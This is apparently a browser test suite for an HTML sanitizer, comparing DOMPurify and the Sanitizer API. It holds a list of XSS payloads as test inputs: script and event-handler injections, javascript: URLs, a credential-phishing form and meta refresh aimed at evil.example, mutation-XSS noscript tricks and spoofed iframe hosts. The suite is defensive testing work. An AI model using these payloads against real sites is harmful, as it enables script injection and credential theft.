import { expect } from '@open-wc/testing';
import { configure, pageOptions, resetConfiguration } from '../config.js';
import { sanitizeHtml } from './html.js';
import { IFRAME_SANDBOX, preferredEngine, type SanitizerEngine } from './sanitize.js';
import { sanitizerEngines } from '../../test/composed-dom.js';
import { nextTask } from '../../test/helpers.js';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const base = 'https://news.example/articles/story.html';
/**
 * Both engines wherever the browser has the Sanitizer API (Chromium and Firefox do); DOMPurify alone
 * elsewhere (WebKit). Every engine is held to the one expected output written below, never only to
 * the other engine: with DOMPurify alone, that output is still what it must give.
 */
const engines: SanitizerEngine[] = sanitizerEngines;
const hasSanitizerApi = engines.includes('sanitizer-api');

async function clean(html: string, engine: SanitizerEngine, iframeHosts: string[] = []): Promise<string> {
  const container = document.createElement('div');
  container.append(await sanitizeHtml(html, base, engine, iframeHosts));
  return container.innerHTML;
}

/** Hostile input and the one safe output both engines must give for it. */
const cases: [name: string, html: string, safe: string][] = [
  ['<script>', '<p>Before</p><script>window.__pwned = "script"</script><p>After</p>', '<p>Before</p><p>After</p>'],
  [
    '<img onerror>',
    '<img src=x onerror="window.__pwned = \'img\'">',
    '<img loading="lazy" decoding="async" src="https://news.example/articles/x" alt="">',
  ],
  [
    'javascript: link',
    '<a href="javascript:window.__pwned = \'link\'">click</a> <a href=" JaVaScRiPt:alert(1)">two</a>',
    '<a>click</a> <a>two</a>',
  ],
  ['<iframe>', '<iframe src="javascript:window.__pwned = \'iframe\'"></iframe><iframe srcdoc="<b>x</b>"></iframe><p>ok</p>', '<p>ok</p>'],
  ['<style>', '<style>p { display: none }</style><p>shown</p>', '<p>shown</p>'],
  ['<svg onload>', '<svg onload="window.__pwned = \'svg\'"><circle r="1"></circle></svg><p>ok</p>', '<p>ok</p>'],
  [
    '<form>',
    '<form action="https://evil.example/steal"><p>Log in</p><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
    '',
  ],
  [
    'inline style and handlers',
    '<p style="position:fixed;inset:0" onclick="window.__pwned = \'click\'" onmouseover="alert(1)">text</p>',
    '<p>text</p>',
  ],
  ['<math> and <template>', '<math><mi>x</mi></math><template><script>alert(1)</script></template><p>ok</p>', '<p>ok</p>'],
  ['<object> and <embed>', '<object data="x.swf">fallback</object><embed src="x.swf"><p>ok</p>', '<p>ok</p>'],
  ['<meta> and <base>', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>ok</p>', '<p>ok</p>'],
  [
    'CMS wrappers are unwrapped, not dropped',
    '<article><header><h2>Title</h2></header><main><p><font color="red">kept</font> text</p></main><center>centred</center></article>',
    '<h2>Title</h2><p>kept text</p>centred',
  ],
  ['comments and data attributes', '<!-- note --><p data-track="1" id="x" class="y">ok</p>', '<p>ok</p>'],
  [
    'srcset with a javascript: candidate',
    '<img srcset="a.png 1x, javascript:alert(1) 2x" src="data:image/png;base64,AAAA" alt="A">',
    '<img loading="lazy" decoding="async" srcset="https://news.example/articles/a.png 1x" alt="A">',
  ],
  [
    'srcset candidates of every form',
    '<img srcset="a.png, b.png 2x,c.png 300w , data:image/png;base64,AAAA 3x, d.png 1x junk, e.png 2x">',
    '<img loading="lazy" decoding="async" srcset="https://news.example/articles/a.png, https://news.example/articles/b.png 2x, https://news.example/articles/c.png 300w, https://news.example/articles/e.png 2x" alt="">',
  ],
  [
    'fragments, relative, protocol-relative and odd URLs',
    '<a href=" #notes">n</a><a href="../x?y#z">r</a><a href="//cdn.example/p">p</a><a href="mailto:a@b.example">m</a><q cite="javascript:alert(1)">q</q>',
    '<a href="#notes">n</a><a href="https://news.example/x?y#z" rel="noopener noreferrer">r</a><a href="https://cdn.example/p" rel="noopener noreferrer">p</a><a>m</a><q>q</q>',
  ],
  [
    'declarative shadow roots',
    '<div><template shadowrootmode="open" shadowrootclonable><img src=x onerror=alert(1)></template>light</div><p><template shadowrootmode="closed" shadowrootclonable><script>alert(2)</script></template>p</p>',
    '<div>light</div><p>p</p>',
  ],
  [
    'images without alt text, which become decoration (an alt that could break out is dropped too)',
    '<img src="a.png"><img src="b.png" alt="--> x"><img src="c.png" alt="B">',
    '<img loading="lazy" decoding="async" src="https://news.example/articles/a.png" alt=""><img loading="lazy" decoding="async" src="https://news.example/articles/b.png" alt=""><img loading="lazy" decoding="async" src="https://news.example/articles/c.png" alt="B">',
  ],
  [
    '<noscript> read as markup, as in an inert document, whatever the engine (mutation XSS)',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript></b><p>ok</p>',
    '<b></b><p>ok</p>',
  ],
  [
    'iframes when no host is allowed',
    '<p>a<iframe src="https://www.youtube-nocookie.com/embed/x" title="Video"></iframe></p>',
    '<p>a</p>',
  ],
];

/** Iframes, with www.youtube-nocookie.com allowed: hostile input and the one safe output. */
const frame = (src: string, title = 'Video', extra = '') =>
  `<iframe sandbox="${IFRAME_SANDBOX}" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" title="${title}"${extra} src="${src}"></iframe>`;
const iframeCases: [name: string, html: string, safe: string][] = [
  [
    'an allowed iframe, remade with sandbox, lazy loading and a referrer policy',
    '<p>Watch:</p><iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video" width="560" height="315" allow="camera; microphone" sandbox="allow-top-navigation" onload="alert(1)" name="x" style="position:fixed" allowfullscreen>fallback</iframe>',
    `<p>Watch:</p>${frame('https://www.youtube-nocookie.com/embed/abc', 'Video', ' width="560" height="315" allowfullscreen=""')}`,
  ],
  [
    'an allowed iframe inside other elements, without a title, protocol-relative, in upper case',
    '<figure><IFRAME SRC="//WWW.YOUTUBE-NOCOOKIE.COM/embed/abc"></IFRAME><figcaption>c</figcaption></figure>',
    `<figure>${frame('https://www.youtube-nocookie.com/embed/abc', 'www.youtube-nocookie.com')}<figcaption>c</figcaption></figure>`,
  ],
  [
    'iframes from other hosts, schemes or ports',
    [
      'https://evil.example/',
      'https://www.youtube-nocookie.com.evil.example/embed/x',
      'https://youtube-nocookie.com/embed/x',
      'https://www.youtube-nocookie.com:8443/embed/x',
      'javascript:alert(1)//www.youtube-nocookie.com',
      'data:text/html,<script>alert(1)</script>',
      'about:blank',
    ]
      .map((src) => `<iframe src="${src}"></iframe>`)
      .join('') + '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe></iframe><p>ok</p>',
    '<p>ok</p>',
  ],
];

/** Content a publisher sends on purpose: it all survives, links and images follow the rules. */
const safeContent = `<h2>Heading</h2><p>Text with <strong>bold</strong>, <em>emphasis</em> and <a href="/more">a link</a>.</p>
<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>
<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>
<figure><img src="media/a.svg" alt="An illustration" width="10" height="5"><figcaption>Caption</figcaption></figure>
<blockquote cite="https://source.example/q"><p>Quote</p></blockquote><p><a href="#notes">Notes</a></p>`;
/** What `safeContent` becomes: all of it, with absolute URLs, safe links, lazy images and a reachable table. */
const safeContentOutput = `<h2>Heading</h2><p>Text with <strong>bold</strong>, <em>emphasis</em> and <a href="https://news.example/more" rel="noopener noreferrer">a link</a>.</p>
<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>
<table tabindex="0"><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>
<figure><img loading="lazy" decoding="async" src="https://news.example/articles/media/a.svg" alt="An illustration" width="10" height="5"><figcaption>Caption</figcaption></figure>
<blockquote cite="https://source.example/q"><p>Quote</p></blockquote><p><a href="#notes">Notes</a></p>`;

describe('data/sanitize', () => {
  afterEach(() => {
    delete window.__pwned;
  });

  it('prefers the Sanitizer API where the browser has it', function () {
    if (!hasSanitizerApi) this.skip();
    expect(preferredEngine()).to.equal('sanitizer-api');
  });

  for (const [name, html, safe] of cases) {
    it(`removes ${name}, to the one safe output, with every engine of the browser`, async () => {
      const outputs = await Promise.all(engines.map((engine) => clean(html, engine)));
      expect(outputs).to.deep.equal(engines.map(() => safe));
    });
  }

  for (const [name, html, safe] of iframeCases) {
    it(`keeps ${name}, to the one safe output, with every engine of the browser`, async () => {
      const outputs = await Promise.all(engines.map((engine) => clean(html, engine, ['www.youtube-nocookie.com'])));
      expect(outputs).to.deep.equal(engines.map(() => safe));
    });
  }

  // The page's configure({ iframeHosts }) reaches the policy through the element (news-article.test.ts).
  it('allows the iframe hosts it is given, and none by default', async () => {
    const html = '<iframe src="https://video.example/embed/1" title="Clip"></iframe>';
    try {
      expect(await clean(html, preferredEngine())).to.equal('');
      configure({ iframeHosts: ['video.example'] });
      const container = document.createElement('div');
      container.append(await sanitizeHtml(html, base, preferredEngine(), pageOptions().iframeHosts));
      expect(container.innerHTML).to.equal(frame('https://video.example/embed/1', 'Clip'));
      expect(() => configure({ iframeHosts: ['https://video.example/'] })).to.throw(/iframeHosts/);
    } finally {
      resetConfiguration();
    }
  });

  for (const engine of engines) {
    it(`keeps safe content with ${engine}`, async () => {
      const container = document.createElement('div');
      container.append(await sanitizeHtml(safeContent, base, engine));
      expect(container.querySelector('h2')!.textContent).to.equal('Heading');
      expect(container.querySelectorAll('ul li, ol li')).to.have.length(3);
      expect(container.querySelector('ol')!.getAttribute('start')).to.equal('3');
      expect(container.querySelector('th')!.getAttribute('scope')).to.equal('col');
      expect(container.querySelector('td')!.getAttribute('colspan')).to.equal('2');
      expect(container.querySelector('table')!.getAttribute('tabindex'), 'a wide table scrolls: reachable by keyboard').to.equal('0');
      expect(container.querySelector('strong')!.textContent).to.equal('bold');

      const [link, fragment] = Array.from(container.querySelectorAll('a'));
      expect(link.getAttribute('href')).to.equal('https://news.example/more');
      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
      expect(fragment.getAttribute('href')).to.equal('#notes');

      const image = container.querySelector('img')!;
      expect(image.getAttribute('src')).to.equal('https://news.example/articles/media/a.svg');
      expect(image.getAttribute('alt')).to.equal('An illustration');
      expect(image.getAttribute('loading')).to.equal('lazy');
      expect(image.getAttribute('width')).to.equal('10');
      expect(container.querySelector('figcaption')!.textContent).to.equal('Caption');
      expect(container.querySelector('blockquote')!.getAttribute('cite')).to.equal('https://source.example/q');
    });
  }

  it('gives the one expected output for safe content with every engine of the browser', async () => {
    const outputs = await Promise.all(engines.map((engine) => clean(safeContent, engine)));
    expect(outputs).to.deep.equal(engines.map(() => safeContentOutput));
  });

  it('returns nodes of this document, which run nothing when inserted', async () => {
    const hostile = cases.map(([, html]) => html).join('');
    for (const engine of engines) {
      const fragment = await sanitizeHtml(hostile, base, engine);
      expect(fragment.ownerDocument).to.equal(document);
      const host = document.createElement('div');
      host.append(fragment);
      document.body.append(host);
      try {
        await nextTask();
        expect(window.__pwned).to.equal(undefined);
        expect(host.querySelectorAll('script, iframe, style, form, svg, math, object, embed, template, meta, base')).to.have.length(0);
        for (const element of host.querySelectorAll('*')) {
          const names = element.getAttributeNames();
          expect(names.filter((attribute) => attribute.startsWith('on') || attribute === 'style')).to.deep.equal([]);
        }
      } finally {
        host.remove();
      }
    }
  });
});
